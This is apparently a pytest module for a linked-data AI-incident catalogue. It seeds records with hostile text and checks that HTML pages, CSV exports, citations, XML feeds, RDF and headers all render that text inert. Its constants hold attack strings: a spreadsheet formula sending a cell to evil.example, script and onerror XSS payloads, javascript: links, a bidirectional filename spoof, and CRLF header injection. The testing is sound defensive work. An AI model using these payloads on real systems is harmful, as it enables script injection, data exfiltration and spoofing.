"""Text of strangers in every place where a record may have some, and every output: it shows as text and does nothing.

The release holds markup, event handlers, ``javascript:`` links, bidirectional overrides, formulas, line breaks that
would begin a header or an entry, and the ends of comments, CDATA and scripts; in labels of things that all pages name.
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from typing import Final
from urllib.parse import quote, urlsplit
from xml.etree import ElementTree

import httpx
import pytest
from pyoxigraph import Literal, NamedNode, Quad, RdfFormat, parse

from harmgraph.iris import (
    DCT,
    FOAF,
    HG,
    RDF,
    RDFS,
    SCHEMA,
    SKOS,
    XSD,
    concept_iri,
    graph_iri,
    mint,
    record_iri,
)
from harmgraph.settings import Settings

from .conftest import Served, publish
from .published import NEWER, OLDER, described
from .test_pages import Outline

FORMULA: Final = '=HYPERLINK("https://evil.example/?x="&A1)'
MARKUP: Final = '"><script>alert(1)</script><img src=x onerror=alert(2)>'
ENDS: Final = "]]></script><!-- --></title></textarea>{{ 7*7 }}%{x}"
BIDI: Final = "\u202egnp.exe\u2066\u2069\u200f"
BREAKS: Final = "a\r\nSet-Cookie: stolen=1\r\nER  - \r\nTY  - BOOK\u2028}@misc{x,"
EVERYTHING: Final = f"{FORMULA} {BIDI} {MARKUP} {ENDS} {BREAKS} ' onmouseover='alert(3)"
LINKS: Final = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,%3Cscript%3Ealert(1)%3C/script%3E",
    "vbscript:x",
)
HARMLESS_SCHEMES: Final = {"", "http", "https", "mailto", "tel"}
CONTROL: Final = re.compile(r"[\u200e\u200f\u202a-\u202e\u2066-\u2069]")

INCIDENT: Final = mint("incident", "EVIL-1")
ORGANISATION: Final = mint("organisation", "evil")
TECHNOLOGY: Final = concept_iri("technology", "evil")
ISSUE: Final = concept_iri("issue", "evil")
COUNTRY: Final = mint("country", "EVL")
RECORD: Final = record_iri("aiaaic-sheet", "2026-06", "EVIL-1")


def hostile_quads(title: str) -> Iterator[Quad]:
    """One incident, with everything that it names, all called by what attacks."""
    consolidation, provenance = graph_iri("consolidation"), graph_iri("provenance")
    kinds = {
        INCIDENT: HG.Incident,
        ORGANISATION: HG.Organisation,
        TECHNOLOGY: SKOS.Concept,
        ISSUE: SKOS.Concept,
        COUNTRY: HG.Country,
    }
    for thing, kind in kinds.items():
        yield Quad(thing, RDF.type, kind, RECORD if thing == INCIDENT else consolidation)
        for property_ in (RDFS.label, SKOS.prefLabel):
            yield Quad(thing, property_, Literal(title, language="en"), consolidation)
    yield Quad(INCIDENT, DCT.title, Literal(title, language="en"), RECORD)
    yield Quad(INCIDENT, DCT.description, Literal(title, language="en"), RECORD)
    yield Quad(INCIDENT, HG.deployer, ORGANISATION, RECORD)
    yield Quad(INCIDENT, HG.technology, TECHNOLOGY, RECORD)
    yield Quad(INCIDENT, HG.issue, ISSUE, RECORD)
    yield Quad(INCIDENT, HG.jurisdiction, COUNTRY, RECORD)
    yield Quad(INCIDENT, HG.earliestDate, Literal("2025-01-01", datatype=XSD.date), consolidation)
    yield Quad(INCIDENT, HG.occurred, Literal("2025", datatype=XSD.gYear), RECORD)
    for address in LINKS:
        yield Quad(INCIDENT, FOAF.page, NamedNode(address), RECORD)
    claim, report = mint("claim", "evil"), mint("report", "evil")
    yield Quad(INCIDENT, HG.claim, claim, RECORD)
    yield Quad(claim, RDF.type, SCHEMA.Claim, RECORD)
    yield Quad(claim, SCHEMA.text, Literal(title, language="en"), RECORD)
    yield Quad(INCIDENT, HG.reportedIn, report, RECORD)
    yield Quad(report, RDF.type, HG.Report, RECORD)
    yield Quad(report, DCT.title, Literal(title, language="en"), RECORD)
    yield Quad(report, HG.publisherName, Literal(title, language="en"), RECORD)
    yield Quad(report, SCHEMA.url, NamedNode(LINKS[0]), RECORD)
    yield Quad(report, DCT.date, Literal("2025-02-03", datatype=XSD.date), RECORD)
    yield Quad(RECORD, RDF.type, HG.SourceRecord, provenance)
    yield Quad(RECORD, RDFS.label, Literal(title, language="en"), provenance)
    yield Quad(RECORD, FOAF.primaryTopic, INCIDENT, provenance)
    yield Quad(RECORD, HG.finding, Literal(title, language="en"), provenance)
    yield Quad(RECORD, DCT.bibliographicCitation, Literal(title, language="en"), provenance)
    yield Quad(RECORD, DCT.rightsHolder, ORGANISATION, provenance)
    yield Quad(RECORD, mint("field", "aiaaic-sheet", "Headline"), Literal(title), provenance)
    yield Quad(RECORD, DCT.source, NamedNode(LINKS[1]), provenance)


@pytest.fixture(scope="module")
def client(tmp_path_factory: pytest.TempPathFactory) -> Iterator[httpx.Client]:
    """A service over a release full of attacks, and one before it, so that there is something in the feed."""
    releases, folder = tmp_path_factory.mktemp("hostile"), tmp_path_factory.mktemp("described")
    publish(releases, described(hostile_quads("harmless"), folder), OLDER)
    with (
        Served(releases, described(hostile_quads(EVERYTHING), folder), Settings(store="memory", workers=2), NEWER) as s,
        httpx.Client(base_url=s.address, timeout=30) as client,
    ):
        yield client


PAGES: Final = (
    "/",
    "/incidents",
    "/organisations",
    "/countries",
    "/doc/incident/EVIL-1",
    "/doc/organisation/evil",
    "/doc/country/EVL",
    "/doc/concept/technology/evil",
    "/doc/concept/issue/evil",
    "/doc/claim/evil",
    "/doc/report/evil",
    "/doc/record/aiaaic-sheet/2026-06/EVIL-1",
    "/doc/organisation/evil?by=hg:deployer",
    "/search",
    "/search?technology=evil&country=EVL",
    f"/search?q={quote(MARKUP)}",
    f"/search?organisation={quote(EVERYTHING)}",
    f"/compare?a=evil&b={quote(EVERYTHING)}",
    "/compare?a=evil&b=evil",
    f"/sparql?query={quote('SELECT * { ?s ?p ?o } LIMIT 500')}",
    f"/sparql?query={quote(EVERYTHING)}",
    f"/sparql?example={quote(MARKUP)}",
    f"/doc/incident/{quote(EVERYTHING, safe='')}",
    f"/{quote(MARKUP, safe='')}",
    f"/incidents?page={quote(MARKUP)}",
    f"/doc/incident/EVIL-1?by={quote(MARKUP)}",
    "/memento/20250701100000/doc/incident/EVIL-1",
    "/memento/20260101123000/doc/incident/EVIL-1",
    "/reconcile/preview?id=incident/EVIL-1",
    "/reconcile/preview?id=organisation/evil",
)


def harmless_html(html: str, *, styled: bool = False) -> None:
    """No element, attribute or address of the page is of the stranger's making, and nothing turns its text round."""
    outline = Outline(html)
    for tag, attributes in outline.elements:
        assert tag not in ("img", "iframe", "object", "embed", "base", "style"), tag
        if tag == "script":
            is_data = attributes.get("type") in ("application/ld+json", "application/json")  # which nobody runs
            assert is_data or (attributes["src"] or "").startswith("/static/")
        for name, value in attributes.items():
            assert not name.startswith("on"), (tag, name, value)
            assert name != "style" or styled
            if name in ("href", "src", "action", "formaction", "xlink:href"):
                assert urlsplit(value or "").scheme.lower() in HARMLESS_SCHEMES, value
    # A query stays as it was written in its field; data in a script show nowhere.
    shown = re.sub(r"<[^>]*>", "", re.sub(r"(?s)<(script|textarea).*?</\1>", "", html))
    assert not CONTROL.search(shown)


@pytest.mark.parametrize("path", PAGES)
def test_a_page_shows_it_as_text(client: httpx.Client, path: str) -> None:
    response = client.get(path, headers={"Accept": "text/html"})
    assert response.status_code < 500
    assert response.headers["Content-Type"].startswith("text/html")
    assert "unsafe" not in response.headers["Content-Security-Policy"]
    harmless_html(response.text)


def test_the_attack_is_on_the_pages_at_all(client: httpx.Client) -> None:
    for path in ("/doc/incident/EVIL-1", "/doc/organisation/evil", "/search", "/incidents"):
        html = client.get(path, headers={"Accept": "text/html"}).text
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
        assert ">U+202E</span>" in html


def test_text_of_strangers_is_no_template(client: httpx.Client) -> None:
    assert "{{ 7*7 }}" in client.get("/doc/incident/EVIL-1", headers={"Accept": "text/html"}).text


def test_embedded_json_ld_stays_within_its_element(client: httpx.Client) -> None:
    for path in ("/", "/doc/incident/EVIL-1", "/doc/organisation/evil"):
        html = client.get(path, headers={"Accept": "text/html"}).text
        (data,) = re.findall(r'(?s)<script type="application/ld\+json">(.*?)</script>', html)
        assert "<" not in data
        assert path == "/" or "</script>" in json.loads(data)["name"]


def test_no_cell_of_an_export_is_a_formula(client: httpx.Client) -> None:
    rows = list(csv.reader(io.StringIO(client.get("/search.csv").text, newline="")))
    assert len(rows) == 2
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert any(cell.startswith("'=HYPERLINK") for cell in rows[1])
    assert client.get("/search.json").json()["incidents"][0]["label"] == EVERYTHING


def test_a_citation_stays_one_entry(client: httpx.Client) -> None:
    bib, ris, csl = (client.get(f"/cite/incident/EVIL-1.{suffix}") for suffix in ("bib", "ris", "json"))
    assert len(re.findall(r"(?m)^@", bib.text)) == 1
    depth = 0
    for sign in re.sub(r"\\[{}]", "", bib.text):
        depth += (sign == "{") - (sign == "}")
        assert depth >= 0
    assert depth == 0, "braces are even, so nothing ends the entry before its end"
    assert len(re.findall(r"(?m)^TY  - ", ris.text)) == len(re.findall(r"(?m)^ER  - ", ris.text)) == 1
    assert len(csl.json()) == 1
    for response in (bib, ris):
        assert not CONTROL.search(response.text)


@pytest.mark.parametrize(
    "path", ["/feed.atom", "/sitemap.xml", "/sitemaps/incidents-1.xml", "/opensearch.xml", "/doc/incident/EVIL-1.rdf"]
)
def test_xml_is_well_formed(client: httpx.Client, path: str) -> None:
    text = client.get(path).content
    root = ElementTree.fromstring(text)
    assert b"<script" not in text
    for element in root.iter():
        for name, value in element.attrib.items():
            if name in ("href", "src"):
                assert urlsplit(value).scheme in HARMLESS_SCHEMES


def test_the_feed_has_it_as_text(client: httpx.Client) -> None:
    root = ElementTree.fromstring(client.get("/feed.atom").content)
    ns = {"a": "http://www.w3.org/2005/Atom"}
    assert root.find("a:entry", ns) is not None
    for name in ("title", "summary", "content"):
        for element in root.iter(f"{{{ns['a']}}}{name}"):
            assert element.get("type", "text") == "text", "a reader would take others for markup"
    assert any("<script>" in (title.text or "") for title in root.iter(f"{{{ns['a']}}}title"))


@pytest.mark.parametrize("suffix", ["ttl", "nt", "jsonld", "rdf", "nq", "trig"])
def test_a_graph_holds_it_word_for_word(client: httpx.Client, suffix: str) -> None:
    body = client.get(f"/doc/incident/EVIL-1.{suffix}").content
    graph = {quad.triple for quad in parse(input=body, format=RdfFormat.from_extension(suffix))}
    (title,) = {t.object.value for t in graph if (t.subject, t.predicate) == (INCIDENT, DCT.title)}
    # XML has no carriage return of its own: a parser reads a line feed (XML 1.0 §2.11).
    assert title.replace("\r\n", "\n") == EVERYTHING.replace("\r\n", "\n")
    assert NamedNode(LINKS[0]) in {t.object for t in graph}


@pytest.mark.parametrize(
    "path",
    [
        "/ldes",
        "/fragments",
        "/linkset/incident/EVIL-1",
        "/timemap/doc/incident/EVIL-1",
        "/suggest?q=hyperlink",
        f"/suggest?q={quote(EVERYTHING)}",
        "/reconcile/suggest/entity?prefix=hyperlink",
        "/reconcile/flyout/entity?id=incident/EVIL-1",
        "/search.json",
        "/beacon.txt",
        "/.well-known/void",
        f"/fragments?subject={quote(MARKUP)}",
        f"/graphs?graph={quote(MARKUP)}",
    ],
)
def test_what_is_for_machines_is_nothing_that_a_browser_would_run(client: httpx.Client, path: str) -> None:
    response = client.get(path)
    assert response.status_code < 500
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    media_type = response.headers["Content-Type"].partition(";")[0]
    assert media_type not in ("text/html", "image/svg+xml", "application/xhtml+xml")
    if media_type.endswith("json"):
        answer = response.json()
        if isinstance(answer, dict) and "html" in answer:
            harmless_html(answer["html"], styled=True)  # a flyout has a style of ours, since it goes into others' pages


@pytest.mark.parametrize(
    "path", [*PAGES, "/cite/incident/EVIL-1.bib", "/id/incident/EVIL-1", "/linkset/incident/EVIL-1"]
)
def test_no_header_is_of_a_stranger(client: httpx.Client, path: str) -> None:
    for method in ("GET", "HEAD"):
        response = client.request(method, path, headers={"Accept": "text/html, */*;q=0.5"})
        assert "set-cookie" not in response.headers
        for name, value in response.headers.items():
            assert value.isascii(), name
            assert value.isprintable(), name
            assert "<script" not in value
        assert "alert(1)" not in response.headers.get("Link", "") or "javascript" not in response.headers["Link"]


def test_what_is_found_by_name_is_found(client: httpx.Client) -> None:
    """The suggestions above hold the attack: names are compared as they are written."""
    assert client.get("/suggest", params={"q": "=hyperlink"}).json()[1][0] == EVERYTHING
